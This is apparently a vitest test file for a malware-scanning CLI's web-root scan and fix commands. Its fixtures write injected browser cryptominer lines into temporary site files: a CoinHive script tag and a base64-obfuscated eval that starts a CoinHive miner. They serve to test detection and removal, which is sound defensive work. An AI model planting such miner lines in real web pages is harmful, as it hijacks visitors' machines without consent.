import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ScanReport } from '../shared/scan.js';
import { CLI, requireBuiltCli } from './helpers/built-cli.js';

const dir = mkdtempSync(join(tmpdir(), 'iw-cli-webroot-'));
beforeAll(() => {
  requireBuiltCli();
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('idlewatch scan --web-root', () => {
  it('searches every --web-root given, in the scan worker, and reports each injected line', () => {
    const a = join(dir, 'site-a');
    const b = join(dir, 'site-b');
    const root = join(dir, 'root');
    for (const d of [a, b, root]) mkdirSync(d, { recursive: true });
    writeFileSync(
      join(a, 'index.html'),
      '<p>shop</p>\n<script src="https://coinhive.com/lib/coinhive.min.js"></script>\n',
    );
    writeFileSync(
      join(b, 'app.js'),
      `eval(atob('${Buffer.from("var m = new CoinHive.Anonymous('k'); m.start();").toString('base64')}'));\n`,
    );
    writeFileSync(join(b, 'clean.js'), "fetch('/api/cart');\n");
    const r = spawnSync(process.execPath, [CLI, 'scan', '--json', '--root', root, '--web-root', a, `--web-root=${b}`], {
      encoding: 'utf8',
      timeout: 120_000,
    });
    expect(r.status, r.stderr).toBe(0);
    const report = JSON.parse(r.stdout) as ScanReport;
    const titles = report.findings.filter((f) => f.rule === 'web-miner').map((f) => f.title);
    expect(titles.sort()).toEqual([
      `Browser miner injected in ${join(a, 'index.html')}:2: script tag loads from coinhive.com, a mining domain (coinhive.com)`,
      `Browser miner injected in ${join(b, 'app.js')}:1: CoinHive miner started with site key 'k'`,
    ]);
    expect(report.steps.find((s) => s.id === 'web-root')?.detail).toMatch(
      /^2 web roots .*3 files read, 2 injected miner lines$/,
    );
  });

  it('fix with the same --web-root removes the injected line through the quarantine', () => {
    const site = join(dir, 'site-fix');
    const root = join(dir, 'root-fix');
    const data = join(dir, 'data-fix');
    for (const d of [site, root, data]) mkdirSync(d, { recursive: true });
    const page = join(site, 'index.html');
    writeFileSync(page, '<p>shop</p>\n<script src="https://coinhive.com/lib/coinhive.min.js"></script>\n<p>end</p>\n');
    const scan = spawnSync(process.execPath, [CLI, 'scan', '--json', '--root', root, '--web-root', site], {
      encoding: 'utf8',
      timeout: 120_000,
    });
    const id = (JSON.parse(scan.stdout) as ScanReport).findings.find((f) => f.rule === 'web-miner')?.id;
    expect(id).toBeDefined();
    const fix = spawnSync(
      process.execPath,
      [CLI, 'fix', id!, '--root', root, '--web-root', site, '--data-dir', data, '--yes'],
      { encoding: 'utf8', timeout: 120_000 },
    );
    expect(fix.status, fix.stderr).toBe(0);
    expect(readFileSync(page, 'utf8')).toBe('<p>shop</p>\n<p>end</p>\n');
  });

  it('a --web-root that is not a folder is a usage error naming it', () => {
    const r = spawnSync(process.execPath, [CLI, 'scan', '--web-root', join(dir, 'nope')], { encoding: 'utf8' });
    expect(r.status).toBe(2);
    expect(r.stderr).toBe(`idlewatch scan: --web-root ${join(dir, 'nope')} is not a folder\n`);
  });
});
